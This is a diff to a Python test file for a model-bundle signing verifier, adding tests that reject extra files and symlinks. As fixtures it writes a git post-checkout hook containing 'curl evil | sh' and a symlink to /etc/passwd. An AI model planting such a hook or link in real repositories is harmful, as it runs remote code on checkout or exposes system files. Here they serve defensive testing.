@@ -40,9 +40,9 @@ def test_key_files_and_ids(tmp_path: Path) -> None:
         generate_keypair(tmp_path / "keys", "ops")
 
 
-def _cli_verify(folder: Path, kid: str, pub: Path) -> subprocess.CompletedProcess[str]:
+def _cli_verify(folder: Path, kid: str, pub: Path, *extra: str) -> subprocess.CompletedProcess[str]:
     sig = folder / "signatures" / f"{kid}.sig"
-    cmd = [str(MODEL_SIGNING), "verify", "key", str(folder), "--signature", str(sig)]
+    cmd = [str(MODEL_SIGNING), "verify", "key", str(folder), "--signature", str(sig), *extra]
     return subprocess.run(
         [*cmd, "--public_key", str(pub)], capture_output=True, text=True, timeout=120
     )
@@ -60,6 +60,20 @@ def test_official_model_signing_cli_accepts_our_bundle(tmp_path: Path) -> None:
     res = _cli_verify(folder, fleet.key("ops1").key_id, fleet.key("ops1").public_key_path)
     assert res.returncode == 1
     assert "Hash mismatch for 'model.onnx'" in res.stderr
+
+
+def test_official_cli_needs_no_ignore_git_paths_to_judge_as_we_do(tmp_path: Path) -> None:
+    fleet = Fleet(tmp_path)
+    folder = fleet.sign(make_folder(tmp_path, 1), "ops1")
+    kp = fleet.key("ops1")
+    (folder / ".git" / "hooks").mkdir(parents=True)
+    (folder / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
+    # Its defaults skip git paths and accept the added hook; ours (and the box) refuse it.
+    assert _cli_verify(folder, kp.key_id, kp.public_key_path).returncode == 0
+    strict = _cli_verify(folder, kp.key_id, kp.public_key_path, "--no-ignore-git-paths")
+    assert strict.returncode == 1
+    report = verify_bundle(folder, _keys(fleet, "ops1"), 1)  # type: ignore[arg-type]
+    assert report.extra_files == (".git/hooks/post-checkout",)
 
 
 def test_threshold_counts_distinct_trusted_keys(tmp_path: Path) -> None:
@@ -106,11 +120,18 @@ def test_report_lists_missing_extra_changed(tmp_path: Path) -> None:
 def test_symlink_in_folder_is_refused(tmp_path: Path) -> None:
     fleet = Fleet(tmp_path)
     folder = fleet.sign(make_folder(tmp_path, 1), "a")
-    (folder / "link").symlink_to("/etc/hostname")
-    with pytest.raises(EdgeAgentError, match="link or special file"):
-        hash_folder(folder)
-    with pytest.raises(EdgeAgentError, match="link or special file"):
-        verify_bundle(folder, _keys(fleet, "a"), 1)  # type: ignore[arg-type]
+    (folder / "link").mkdir()
+    (folder / "link" / "passwd").symlink_to("/etc/passwd")
+    # The message names the link relative to the bundle, and offers no option we lack.
+    for call in (
+        lambda: hash_folder(folder),
+        lambda: verify_bundle(folder, _keys(fleet, "a"), 1),  # type: ignore[arg-type]
+        lambda: sign_bundle(folder, fleet.key("a").private_key_path),
+    ):
+        with pytest.raises(EdgeAgentError) as info:
+            call()
+        assert info.value.message == "bundle folder holds a symlink: link/passwd (bundles never do)"
+        assert "allow_symlinks" not in info.value.message
 
 
 def test_signing_refuses_a_folder_without_bundle_json(tmp_path: Path) -> None:
